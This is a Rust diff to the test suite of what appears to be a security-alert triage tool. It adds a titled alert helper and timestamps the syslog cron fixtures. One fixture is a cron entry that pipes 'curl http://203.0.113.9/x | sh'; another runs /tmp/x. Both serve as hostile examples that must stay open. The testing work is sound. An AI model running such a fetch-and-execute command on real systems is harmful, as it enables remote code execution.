@@ -1,3 +1,6 @@
+mod attackers;
+mod closing;
+
 use std::collections::BTreeMap;
 
 use proptest::prelude::*;
@@ -148,8 +151,12 @@ fn soothing_words_of_the_attacker_change_nothing() {
 
 /// An alert as its words: level, groups, fields.
 fn said_of(level: u8, groups: &str, fields: &[(&str, &str)]) -> Disposition {
+    said_under("A rule", level, groups, fields)
+}
+
+fn said_under(title: &str, level: u8, groups: &str, fields: &[(&str, &str)]) -> Disposition {
     let fields = AlertFields {
-        title: "A rule".into(),
+        title: title.into(),
         rule_id: Some("1".into()),
         level: Some(level),
         groups: groups.split(' ').map(str::to_owned).collect(),
@@ -296,10 +303,16 @@ fn everyday_work_is_closed_and_its_twin_that_is_none_stays_open() {
         ),
         (
             "syslog cron",
-            &[("full_log", "host CRON[12]: (root) CMD (run-parts /etc/cron.daily)")],
+            &[(
+                "full_log",
+                "Mar  2 08:00:01 host CRON[12]: (root) CMD (run-parts /etc/cron.daily)",
+            )],
             &[
-                ("full_log", "host CRON[12]: (root) CMD (curl http://203.0.113.9/x | sh)"),
-                ("full_log", "host CRON[12]: (root) CMD (/tmp/x)"),
+                (
+                    "full_log",
+                    "Mar  2 08:00:01 host CRON[12]: (root) CMD (curl http://203.0.113.9/x | sh)",
+                ),
+                ("full_log", "Mar  2 08:00:01 host CRON[12]: (root) CMD (/tmp/x)"),
             ],
         ),
         (
